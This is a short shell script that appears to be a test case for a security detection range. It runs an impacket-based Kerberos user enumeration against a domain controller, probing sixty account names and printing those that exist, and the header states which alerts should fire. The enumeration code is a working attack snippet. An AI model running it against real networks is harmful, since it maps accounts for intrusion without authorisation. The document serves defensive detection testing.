# SPDX-License-Identifier: Apache-2.0
# what: sixty names asked of the KDC by requests without proof
# technique: T1087.002
# from: ws1
# to: dc1
# account: -
# outcome: success
# must: alert brute,krb,discover
. "$RANGE_HERE/item.sh"
says 'alice' timeout 40 /usr/bin/python3 -c "
import sys
from impacket.krb5.kerberosv5 import getKerberosTGT
from impacket.krb5.types import Principal
from impacket.krb5 import constants
for n in ['user%02d' % i for i in range(58)] + ['alice', 'bob']:
    try:
        getKerberosTGT(Principal(n, type=constants.PrincipalNameType.NT_PRINCIPAL.value), 'x', '$REALM', None, None, kdcHost='$dc1')
    except Exception as e:
        if 'PREAUTH_FAILED' in str(e) or 'PREAUTH_REQUIRED' in str(e) or 'integrity' in str(e):
            print(n, 'is there')
"
